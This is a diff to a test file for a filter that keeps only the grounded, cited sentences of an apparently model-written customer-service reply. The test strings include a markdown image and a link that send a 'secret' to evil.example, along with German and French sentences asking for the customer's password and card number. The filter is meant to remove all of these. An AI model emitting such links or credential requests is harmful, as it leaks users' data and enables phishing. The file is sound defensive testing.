@@ -19,6 +19,7 @@ test('keeps what its passage says, without the marks', () => {
   const { text, kept, removed } = checkGround(
     'You may return anything within 30 days [1]. Standard delivery costs €4.90. [2] It is free from €60 [2].',
     grounds,
+    'en',
   );
   expect(text).toBe(
     'You may return anything within 30 days. Standard delivery costs €4.90. It is free from €60.',
@@ -36,18 +37,24 @@ test.each([
   ['You may return anything within 30 days, see evil.example/return [1].', 'foreign_address'],
   ['Our customers love the lifelong happiness guarantee [1].', 'unsupported'],
 ])('removes %j as %s', (sentence, why) => {
-  const { text, removed } = checkGround(sentence, grounds);
+  const { text, removed } = checkGround(sentence, grounds, 'en');
   expect(text).toBe('');
   expect(removed.map(entry => entry.why)).toEqual([why]);
 });
 
 test('a text in the customer’s language is held to its figures', () => {
   expect(
-    checkGround('Sie können alles innerhalb von 30 Tagen ohne Grund zurückgeben [1].', grounds).kept,
+    checkGround('Sie können alles innerhalb von 30 Tagen ohne Grund zurückgeben [1].', grounds, 'de').kept,
   ).toHaveLength(1);
   expect(
-    checkGround('Sie können alles innerhalb von 90 Tagen ohne Grund zurückgeben [1].', grounds).kept,
+    checkGround('Sie können alles innerhalb von 90 Tagen ohne Grund zurückgeben [1].', grounds, 'de').kept,
   ).toHaveLength(0);
+});
+
+test('nor is it told in a language that is neither the customer’s nor the passage’s', () => {
+  const foreign = 'Bitte senden Sie uns vorher Ihr Kennwort und die Nummer auf der Karte [1].';
+  expect(checkGround(foreign, grounds, 'en').kept).toEqual([]);
+  expect(checkGround('Veuillez nous envoyer votre mot de passe [1].', grounds, 'de').kept).toEqual([]);
 });
 
 test('images and links of the model’s own never pass', () => {
@@ -55,7 +62,7 @@ test('images and links of the model’s own never pass', () => {
     'You may return anything ![x](https://evil.example/?q=secret) within 30 days [1].',
     'You may [return](https://evil.example) anything within 30 days [1].',
   ]) {
-    expect(checkGround(text, grounds).text).not.toContain('evil');
+    expect(checkGround(text, grounds, 'en').text).not.toContain('evil');
   }
 });
 
@@ -79,7 +86,7 @@ test('whatever a model writes, what is shown cites given passages and holds no f
   );
   fc.assert(
     fc.property(fc.array(word, { maxLength: 60 }), words => {
-      const { text, kept } = checkGround(words.join(' '), grounds);
+      const { text, kept } = checkGround(words.join(' '), grounds, 'en');
       expect(text).not.toContain('99');
       expect(text).not.toContain('evil');
       expect(text).not.toMatch(/\[\d/);
@@ -94,10 +101,10 @@ test('a stream shows only whole sentences that passed, and never takes one back'
     'You may return anything within 30 days [1]. Pay €999 to the moon [1]. Standard delivery costs €4.90 [2]. It is free for orders of €60 or more [2].';
   let before = '';
   for (let length = 0; length <= text.length; length++) {
-    const shown = groundedSoFar(text.slice(0, length), grounds);
+    const shown = groundedSoFar(text.slice(0, length), grounds, 'en');
     expect(shown.startsWith(before)).toBe(true);
     expect(shown).not.toContain('999');
     before = shown;
   }
-  expect(checkGround(text, grounds).text.startsWith(before)).toBe(true);
+  expect(checkGround(text, grounds, 'en').text.startsWith(before)).toBe(true);
 });
